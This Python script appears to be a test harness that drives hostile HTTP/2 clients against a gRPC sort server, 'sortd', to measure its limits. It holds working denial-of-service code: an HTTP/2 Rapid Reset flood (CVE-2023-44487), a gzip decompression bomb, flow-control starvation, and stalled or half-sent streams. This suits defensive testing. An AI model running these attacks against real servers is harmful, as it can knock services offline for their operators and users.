#!/usr/bin/env python3
"""Hostile HTTP/2 clients against sortd, written at the frame level (python3-h2), to measure
what the server's limits hold against. Each mode runs for --seconds and prints one JSON line of
what it sent and what the server answered.

  rapid_reset   one connection opens streams of --method (SortKeys unless given) and resets each
                at once (CVE-2023-44487)
  gzip          requests whose message is gzip-compressed (a few KB expanding to --mib MiB)
  noread        --streams requests of --mib MiB each whose responses are never read (the
                connection's receive window is never opened)
  upload        --streams requests of --mib MiB each on one connection, all uploaded at once
  stream_tiny   one SortStream of --keys uint32 keys sent one key per message
  stream_junk   one SortStream of --keys keys, each message also carrying --mib MiB in a keys
                field that a later one replaces (protobuf keeps the last)
  stream_stall  --streams SortStreams that send a header for --mib MiB of keys, then nothing
  half_upload   --streams connections, each sending half of a --mib MiB request of --method
                (SortKeys or SortSession), then nothing; reports when the server ended each
"""
import argparse
import gzip
import json
import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

METHOD = "/sortd.v1.SortService/SortKeys"
STREAM_METHOD = "/sortd.v1.SortService/SortStream"


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def sort_request(key_bytes):
    """A SortRequest of uint32 keys (field 1 = key_type 1, field 2 = keys)."""
    keys = (struct.pack("<I", 0x9E3779B9) * (key_bytes // 4 + 1))[:key_bytes]
    return b"\x08\x01" + b"\x12" + varint(len(keys)) + keys


def stream_header(key_count):
    """A SortStreamRequest carrying only a header: uint32 keys (field 1), key_count (field 7)."""
    header = b"\x08\x01" + b"\x38" + varint(key_count)
    return b"\x0a" + varint(len(header)) + header


def stream_keys(keys):
    """A SortStreamRequest carrying a chunk of keys (field 2)."""
    return b"\x12" + varint(len(keys)) + keys


def grpc_frame(message, compressed=False):
    return struct.pack(">BI", 1 if compressed else 0, len(message)) + message


class Connection:
    def __init__(self, host, port, window=65535):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.local_settings = h2.settings.Settings(
            client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.h2.initiate_connection()
        self.flush()
        self.authority = f"{host}:{port}"
        self.statuses = {}

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def headers(self, extra=(), method=METHOD):
        return [(":method", "POST"), (":scheme", "http"), (":path", method),
                (":authority", self.authority), ("content-type", "application/grpc"),
                ("te", "trailers")] + list(extra)

    def pump(self, timeout=0.0):
        """Reads what the server sent (if anything within `timeout`) and records statuses."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, BlockingIOError):
            return True
        except OSError:  # reset by the server: as closed
            return False
        finally:
            self.sock.settimeout(None)
        if not data:
            return False
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            # A frame h2 will not take (say, for a stream it has forgotten after tens of thousands
            # of resets) ends this client's connection, not the attack's report.
            return False
        for event in events:
            if isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, (h2.events.TrailersReceived, h2.events.ResponseReceived)):
                for name, value in event.headers:
                    if name == "grpc-status":
                        self.statuses[event.stream_id] = value
            elif isinstance(event, h2.events.StreamReset):
                self.statuses.setdefault(event.stream_id, f"reset:{event.error_code}")
        try:
            self.flush()
        except OSError:
            return False
        return True

    def send_body(self, stream_id, body, end=True):
        """Sends `body` on the stream as flow control allows, reading the server meanwhile, and
        ends the stream after it unless `end` is false."""
        offset = 0
        while offset < len(body):
            window = min(self.h2.local_flow_control_window(stream_id),
                         self.h2.max_outbound_frame_size)
            if window <= 0:
                if not self.pump(timeout=1.0):
                    return False
                continue
            chunk = body[offset:offset + window]
            try:
                self.h2.send_data(stream_id, chunk)
            except h2.exceptions.StreamClosedError:
                return True  # the server answered (or reset) the stream before its whole body
            offset += len(chunk)
            self.flush()
        if not end:
            return True
        try:
            self.h2.end_stream(stream_id)
        except h2.exceptions.StreamClosedError:
            return True
        self.flush()
        return True


def rapid_reset(args):
    conn = Connection(args.host, args.port)
    streams = 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for _ in range(100):
            sid = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(sid, conn.headers(method=args.method))
            conn.h2.reset_stream(sid)
            streams += 1
        try:
            conn.flush()
        except OSError as e:  # the server closed the connection: report, do not retry
            return {"mode": "rapid_reset", "streams": streams, "closed_by_server": str(e)}
        if not conn.pump():
            return {"mode": "rapid_reset", "streams": streams, "closed_by_server": "EOF"}
    return {"mode": "rapid_reset", "streams": streams, "rate_per_s": round(streams / args.seconds)}


def gzip_bomb(args):
    conn = Connection(args.host, args.port)
    message = gzip.compress(sort_request(args.mib << 20), compresslevel=9)
    sent = 0
    end = time.monotonic() + args.seconds
    # A loaded server may take its time; past this the run ends whatever was sent or answered.
    give_up = end + 30
    closed = False
    while not closed and (time.monotonic() < end or sent < args.min_requests):
        # At the server's stream limit (a loaded server answers slowly), wait for answers rather
        # than open a stream the protocol forbids.
        while (conn.h2.open_outbound_streams >= conn.h2.remote_settings.max_concurrent_streams
               and not closed):
            closed = not conn.pump(timeout=0.05) or time.monotonic() >= give_up
        if closed:
            break
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, conn.headers([("grpc-encoding", "gzip")]))
        if not conn.send_body(sid, grpc_frame(message, compressed=True)):
            break
        sent += 1
        conn.pump(timeout=0.01)
    while len(conn.statuses) < sent and time.monotonic() < give_up:
        if not conn.pump(timeout=0.1):
            break
    codes = {}
    for status in conn.statuses.values():
        codes[status] = codes.get(status, 0) + 1
    return {"mode": "gzip", "requests": sent, "compressed_bytes": len(message),
            "expands_to_bytes": (args.mib << 20), "statuses": codes}


def streams_of(args, mode, window):
    conn = Connection(args.host, args.port, window=window)
    body = grpc_frame(sort_request(args.mib << 20))
    for _ in range(args.streams):
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, conn.headers())
        if not conn.send_body(sid, body):
            break
    return conn


def noread(args):
    # The receive window stays at 64 KiB and is never acknowledged: responses cannot be sent.
    conn = streams_of(args, "noread", window=65535)
    time.sleep(args.seconds)
    conn.sock.close()
    return {"mode": "noread", "streams": args.streams, "bytes_each": args.mib << 20}


def upload(args):
    conn = streams_of(args, "upload", window=1 << 30)
    deadline = time.monotonic() + args.seconds
    while len(conn.statuses) < args.streams and time.monotonic() < deadline:
        if not conn.pump(timeout=0.2):
            break
    codes = {}
    for status in conn.statuses.values():
        codes[status] = codes.get(status, 0) + 1
    return {"mode": "upload", "streams": args.streams, "bytes_each": args.mib << 20,
            "statuses": codes}


def stream_of_messages(args, mode, messages, key_count):
    """One SortStream: the header, then `messages` (an iterable of chunk messages), half-closed;
    reports the status and how long the server took to answer after the last message."""
    conn = Connection(args.host, args.port, window=1 << 30)
    sid = conn.h2.get_next_available_stream_id()
    conn.h2.send_headers(sid, conn.headers(method=STREAM_METHOD))
    sent = 0
    ok = conn.send_body(sid, grpc_frame(stream_header(key_count)), end=False)
    for message in messages:
        if not ok:
            break
        ok = conn.send_body(sid, grpc_frame(message), end=False)
        sent += 1
        if sent % 1000 == 0:
            conn.pump()  # the server's window updates, so they never fill the socket
    if ok:
        conn.send_body(sid, b"")
    deadline = time.monotonic() + args.seconds
    while sid not in conn.statuses and time.monotonic() < deadline:
        if not conn.pump(timeout=0.1):
            break
    return {"mode": mode, "messages": sent, "status": conn.statuses.get(sid, "none")}


def stream_tiny(args):
    key = struct.pack("<I", 7)
    return stream_of_messages(args, "stream_tiny", (stream_keys(key) for _ in range(args.keys)),
                              args.keys)


def stream_junk(args):
    junk = stream_keys(b"\x7f" * (args.mib << 20))
    key = stream_keys(struct.pack("<I", 7))
    return stream_of_messages(args, "stream_junk", (junk + key for _ in range(args.keys)),
                              args.keys)


def stream_stall(args):
    key_count = (args.mib << 20) // 4
    conns = []
    for _ in range(args.streams):
        conn = Connection(args.host, args.port, window=1 << 30)
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, conn.headers(method=STREAM_METHOD))
        conn.send_body(sid, grpc_frame(stream_header(key_count)), end=False)
        conns.append((conn, sid))
    start = time.monotonic()
    ended = {}
    while len(ended) < len(conns) and time.monotonic() < start + args.seconds:
        for i, (conn, sid) in enumerate(conns):
            if i not in ended and (not conn.pump(timeout=0.05) or sid in conn.statuses):
                ended[i] = round(time.monotonic() - start, 1)
    return {"mode": "stream_stall", "streams": args.streams, "bytes_each": args.mib << 20,
            "ended_after_s": sorted(ended.values()), "still_open": len(conns) - len(ended)}


def half_upload(args):
    body = grpc_frame(sort_request(args.mib << 20))
    conns = []
    for _ in range(args.streams):
        conn = Connection(args.host, args.port, window=1 << 30)
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, conn.headers(method=args.method))
        conn.send_body(sid, body[:len(body) // 2], end=False)
        conns.append((conn, sid))
    start = time.monotonic()
    ended = {}
    while len(ended) < len(conns) and time.monotonic() < start + args.seconds:
        for i, (conn, sid) in enumerate(conns):
            if i not in ended and (not conn.pump(timeout=0.01) or sid in conn.statuses):
                ended[i] = round(time.monotonic() - start, 1)
    return {"mode": "half_upload", "method": args.method, "streams": args.streams,
            "bytes_each": len(body) // 2, "ended_after_s": sorted(ended.values()),
            "statuses": sorted({str(v) for c, _ in conns for v in c.statuses.values()}),
            "still_open": len(conns) - len(ended)}


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("mode", choices=["rapid_reset", "gzip", "noread", "upload", "stream_tiny",
                                         "stream_junk", "stream_stall", "half_upload"])
    parser.add_argument("--method", default=METHOD, help="rapid_reset, half_upload: the path")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--mib", type=int, default=64, help="MiB of keys per request")
    parser.add_argument("--streams", type=int, default=16)
    parser.add_argument("--keys", type=int, default=100000, help="keys per stream (stream modes)")
    parser.add_argument("--min_requests", type=int, default=0,
                        help="gzip: keep sending past --seconds until this many were sent")
    args = parser.parse_args()
    modes = {"rapid_reset": rapid_reset, "gzip": gzip_bomb, "noread": noread, "upload": upload,
             "stream_tiny": stream_tiny, "stream_junk": stream_junk, "stream_stall": stream_stall,
             "half_upload": half_upload}
    print(json.dumps(modes[args.mode](args)), flush=True)


if __name__ == "__main__":
    main()
